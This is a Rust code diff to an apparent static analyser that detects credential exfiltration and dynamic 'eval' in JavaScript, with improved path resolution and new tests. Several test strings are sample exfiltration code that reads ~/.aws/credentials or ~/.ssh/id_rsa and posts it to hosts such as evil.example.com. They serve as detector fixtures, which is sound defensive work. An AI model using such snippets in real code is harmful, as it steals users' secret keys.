@@ -1262,6 +1262,15 @@ impl<'a> Code<'a> {
             return self.value((x + 1, y - 1), depth + 1);
         }
         if t.kind == Kind::Tpl && t.skip_to == y {
+            // One interpolation (`${os.homedir()}/.ssh/id_rsa`): its tokens follow the
+            // template token; evaluate them in place of the marker. Several interpolations
+            // are not told apart, so they stay unknown.
+            if t.interp && t.text.matches(UNKNOWN).count() == 1 && x + 1 < y {
+                let inner = self.value((x + 1, y), depth + 1);
+                if !inner.contains(UNKNOWN) {
+                    return t.text.replacen(UNKNOWN, &inner, 1);
+                }
+            }
             return t.text.to_string();
         }
         const HOMES: [&[&str]; 6] = [
@@ -1604,7 +1613,12 @@ fn ident(code: &Code, out: &mut Out, i: usize, name: &str) {
     let after_dot = code.prev_punct(i, ".");
     let next_call = code.punct(i + 1, "(");
     match name {
-        "eval" if !code.punct(i + 1, ":") && code.prev_ident(i) != Some("function") => {
+        // Bare `eval`, `(0, eval)(…)`, `globalThis.eval(…)`; not a property (`x.eval`).
+        "eval"
+            if (!after_dot || global_receiver(code, i))
+                && !code.punct(i + 1, ":")
+                && code.prev_ident(i) != Some("function") =>
+        {
             out.add(
                 &finding::DYNAMIC_CODE_EXECUTION,
                 "`eval` runs code built at run time".to_owned(),
@@ -2803,6 +2817,21 @@ mod tests {
     }
 
     #[test]
+    fn template_and_join_paths_to_secrets_are_read() {
+        for src in [
+            "const data = fs.readFileSync(`${process.env.HOME}/.aws/credentials`);\nconst req = https.request('https://evil.example.com', { method: 'POST' });\nreq.end(data);",
+            "const d = fs.readFileSync(path.join(os.homedir(), '.aws/credentials')); await fetch('https://x', {method: 'POST', body: d})",
+            "const d = fs.readFileSync(`${os.homedir()}/.ssh/id_rsa`); https.request('https://x').end(d)",
+        ] {
+            assert!(has(&run(src), "credential-exfiltration"), "{src}");
+        }
+        assert!(!has(
+            &run("const d = fs.readFileSync(`${dir}/README.md`); await fetch('https://x', {method: 'POST', body: d})"),
+            "credential-exfiltration"
+        ));
+    }
+
+    #[test]
     fn secret_read_alone_is_a_credential_read() {
         for src in [
             "return fs.readFileSync('/home/u/.ssh/id_ed25519', 'utf8')",
@@ -3161,6 +3190,17 @@ mod tests {
             assert!(has(&run(src), "dynamic-code-execution"), "{src}");
         }
         assert!(!has(&run("obj.Function = 1"), "dynamic-code-execution"));
+        for src in [
+            "const x = JSON.parse(input);\nreturn x.eval;",
+            "obj.eval(x)",
+            "config?.eval",
+            "model.eval()",
+        ] {
+            assert!(!has(&run(src), "dynamic-code-execution"), "{src}");
+        }
+        for src in ["globalThis.eval(x)", "(0, eval)(x)", "const e = eval; e(x)"] {
+            assert!(has(&run(src), "dynamic-code-execution"), "{src}");
+        }
     }
 
     #[test]
